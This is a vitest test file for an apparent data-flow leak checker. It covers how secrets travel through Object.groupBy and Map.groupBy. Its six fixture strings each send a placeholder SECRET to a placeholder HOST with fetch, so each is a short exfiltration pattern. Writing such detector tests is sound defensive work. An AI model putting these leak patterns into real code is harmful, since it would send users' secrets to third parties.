import { describe, test } from "vitest";
import {
	type DataFlow,
	expectHarmlessOnOwnSite,
	expectHarmlessWithoutSecret,
	expectLeak,
} from "../testing/data-flow-checks.ts";

const FLOWS: readonly DataFlow[] = [
	["a group of an object", "const g = Object.groupBy([SECRET], () => 'a'); fetch('HOST/' + g.a[0]);"],
	["a group of a map", "const g = Map.groupBy([SECRET], () => 'a'); fetch('HOST/' + g.get('a')[0]);"],
	["any group", "for (const group of Object.values(Object.groupBy([SECRET], (x) => x[0]))) fetch('HOST/' + group);"],
	["the key of a group", "for (const [key] of Map.groupBy([1], () => SECRET)) fetch('HOST/' + key);"],
	["the function that tells the group", "Object.groupBy([1], () => { fetch('HOST/' + SECRET); });"],
	["the items that are grouped", "Map.groupBy([SECRET], (x) => { fetch('HOST/' + x); });"],
];

describe("grouping", () => {
	test.each(FLOWS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
	test.each(FLOWS)("%s is harmless without a secret", (_title, code) => expectHarmlessWithoutSecret(code));
	test.each(FLOWS)("%s is harmless on the page's own site", (_title, code) => expectHarmlessOnOwnSite(code));
});
